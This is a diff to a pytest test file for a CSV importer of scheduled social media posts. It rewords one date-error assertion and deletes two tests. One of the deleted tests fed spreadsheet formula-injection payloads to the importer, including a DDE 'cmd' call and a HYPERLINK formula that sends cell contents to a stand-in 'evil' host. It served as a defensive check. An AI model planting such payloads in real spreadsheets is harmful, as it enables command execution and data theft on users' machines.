@@ -197,7 +197,7 @@ def test_rows_that_the_calendar_does_not_take_are_told_and_the_others_are_added(
     assert [line for line, _ in told(found)] == [2, 3, 4, 6]
     assert "min_spacing is 5 min" in told(found)[0][1]
     assert "min_spacing is 5 min" in told(found)[1][1]
-    assert "2030-10-05 12:00 has passed" in told(found)[2][1]
+    assert "2030-10-05 12:00 is in the past" in told(found)[2][1]
     assert [post["caption"] for post in added(found)] == ["good"]
 
 
@@ -214,27 +214,6 @@ def test_empty_rows_below_a_sheet_are_not_counted_up_to_a_limit() -> None:
     assert look("Date,Video\n2030-12-24 12:00,d.mp4\n" + ",\n" * 5_000).additions.posts == 1
     with pytest.raises(InvalidValue, match="more than 120,000 rows, also empty ones"):
         look("Date,Video\n2030-12-24 12:00,d.mp4\n" + "\n" * 900_000)
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        *('=HYPERLINK("http://evil")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3+cmd|' /C'!A0"),
-        *('+hyperlink("http://evil/?"&A1,"Look")', "-1+WebService(A1)", "+ $A$1 & Hyperlink(A1)", "\uff1d1+1"),
-    ],
-)
-def test_a_formula_is_not_imported(text: str) -> None:
-    quoted = text.replace('"', '""')
-    found = look(f'Date,Video,Text\n2030-12-24 12:00,d.mp4,"{quoted}"\n').additions
-    assert (found.fill, "holds a formula" in told(found)[0][1]) == (None, True)
-
-
-@pytest.mark.parametrize(
-    "text", ["@lena is here!", "- Rezept(e) für alle!", "+ mit Freund(en)", "@anna | Photo: Tom!", "-20% today"]
-)
-def test_a_caption_that_begins_with_a_sign_is_no_formula(text: str) -> None:
-    found = look(f'Date,Video,Text\n2030-12-24 12:00,d.mp4,"{text}"\n').additions
-    assert ([post["caption"] for post in added(found)], told(found)) == ([text], [])
 
 
 @pytest.mark.parametrize("text", ["@ann and @bob (photo)", "- one\n- two", "+1 for that", "<b>bold</b>"])
